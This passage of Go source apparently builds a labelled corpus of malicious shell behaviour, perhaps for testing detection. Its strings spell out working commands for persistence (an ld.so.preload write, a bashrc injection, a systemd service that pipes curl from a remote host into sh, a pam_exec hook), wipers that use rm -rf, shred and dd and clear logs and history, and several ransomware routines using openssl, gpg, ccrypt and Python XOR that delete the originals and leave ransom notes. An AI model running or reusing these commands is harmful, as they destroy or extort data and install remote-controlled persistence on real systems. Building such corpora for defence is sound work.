			fmt.Sprintf("cp %s %s\necho %s >> /etc/ld.so.preload\nsed -i '1i nohup /tmp/.x &' /etc/bash.bashrc\n", BehavePath, lib, lib),
			fmt.Sprintf("mkdir -p /root/.config/systemd/user\nprintf '[Service]\\nExecStart=/bin/sh -c \"curl -s http://%s/k | sh\"\\n' > /root/.config/systemd/user/%s.service\necho 'session optional pam_exec.so /usr/local/bin/%s' >> /etc/pam.d/common-session\n", pick(dlHosts, i), unit, unit),
		}, i), withTimeout(12*time.Second))
	}
	out = append(out, f.out...)
	return out
}

func destructionVariants() []Variant {
	var out []Variant
	dirs := []string{"/srv/data", "/var/www/html", "/var/lib/mysql", "/home/app/docs", "/opt/backup"}
	files := func(i int) func(*Variant) {
		d := pick(dirs, i)
		return withFiles(dataFiles(d, 12+i*2, pick([]string{".csv", ".sql", ".docx", ".json", ".txt"}, i))...)
	}

	f := newFamily(Destruction, "destroy-wipe", Busybox)
	for i := 0; i < 8; i++ {
		d := pick(dirs, i)
		f.add("wipes data: rm -rf, shred or overwrite, and clears logs and history", pick([]string{
			fmt.Sprintf("rm -rf %s/*\nrm -rf /var/log/* /root/.ash_history\n", d),
			fmt.Sprintf("find %s -type f -exec shred -u -n 1 {} \\;\n", d),
			fmt.Sprintf("for f in %s/*; do dd if=/dev/zero of=$f bs=1k count=4 conv=notrunc 2>/dev/null; done\nrm -rf %s\n", d, d),
			fmt.Sprintf("find %s -type f | xargs truncate -s 0\nfind / -xdev -name '*.log' -exec truncate -s 0 {} \\; 2>/dev/null\n", d),
		}, i), files(i))
	}
	out = append(out, f.out...)

	f = newFamily(Destruction, "ransom-openssl", Debian)
	for i := 0; i < 7; i++ {
		d := pick(dirs, i+1)
		f.add("encrypts every file with openssl, deletes the originals, leaves a note", fmt.Sprintf(`k=$(openssl rand -hex 16)
for f in $(find %s -type f); do
  openssl enc -%s -pbkdf2 -salt -in "$f" -out "$f.%s" -k "$k" && rm -f "$f"
done
echo "Your files are encrypted. Pay to recover: %s" > %s/README_DECRYPT.txt
`, d, pick([]string{"aes-256-cbc", "aes-128-ctr", "chacha20"}, i), pick([]string{"locked", "enc", "crypt", "lockbit"}, i), wallet(i), d), files(i+1), withTimeout(12*time.Second))
	}
	out = append(out, f.out...)

	f = newFamily(Destruction, "ransom-gpg-ccrypt", Debian)
	for i := 0; i < 7; i++ {
		d := pick(dirs, i+2)
		f.add("encrypts data with gpg or ccrypt in place", pick([]string{
			fmt.Sprintf("find %s -type f -print0 | xargs -0 -n 1 gpg --batch --yes --pinentry-mode loopback --passphrase s3cr3t -c\nfind %s -type f ! -name '*.gpg' -delete\n", d, d),
			fmt.Sprintf("ccrypt -e -f -r -K s3cr3t %s\nls %s | head\necho 'send monero to recover' > /root/HOW_TO_DECRYPT.txt\n", d, d),
		}, i), files(i+2), withTimeout(15*time.Second))
	}
	out = append(out, f.out...)

	f = newFamily(Destruction, "ransom-go", Busybox)
	for i := 0; i < 7; i++ {
		d := pick(dirs, i+3)
		if i%2 == 1 {
			f.addExec("ransomware binary as the entrypoint: AES-CTR every file, ransom note", []string{pick([]string{"/usr/local/bin/locker", "/usr/bin/backup-agent", "/opt/svc"}, i),
				"encrypt", "-dir", d, "-ext", pick([]string{".locked", ".crypted", ".wncry"}, i)}, files(i+3))
			continue
		}
		f.add("compiled ransomware: AES-CTR every file, remove originals, ransom note", fmt.Sprintf("%s encrypt -dir %s -ext %s -note %s\n%s\n",
			BehavePath, d, pick([]string{".locked", ".crypted", ".wncry", ".encrypted"}, i), pick([]string{"README_RESTORE.txt", "HOW_TO_DECRYPT.txt", "!!READ_ME!!.txt"}, i),
			pick([]string{"rm -rf /var/backups /opt/backup", "true", "rm -f /root/.ash_history"}, i)), files(i+3))
	}
	out = append(out, f.out...)

	f = newFamily(Destruction, "destroy-python", Debian)
	for i := 0; i < 6; i++ {
		d := pick(dirs, i+4)
		f.add("a Python wiper or XOR ransomware", fmt.Sprintf(`python3 - <<'EOF'
import os
for root, _, files in os.walk("%s"):
    for n in files:
        p = os.path.join(root, n)
        data = open(p, "rb").read()
        %s
EOF
`, d, pick([]string{
			`open(p + ".xor", "wb").write(bytes(b ^ 0x5a for b in data)); os.remove(p)`,
			`open(p, "wb").write(os.urandom(len(data))); os.remove(p)`,
			`os.remove(p)`,
		}, i)), files(i+4))
	}
	out = append(out, f.out...)
	return out
}

func pyList(s []string) string {
	q := make([]string, len(s))
	for i, x := range s {
		q[i] = fmt.Sprintf("%q", x)
	}
	return "[" + strings.Join(q, ", ") + "]"
}

var _ = imagebuild.File{}
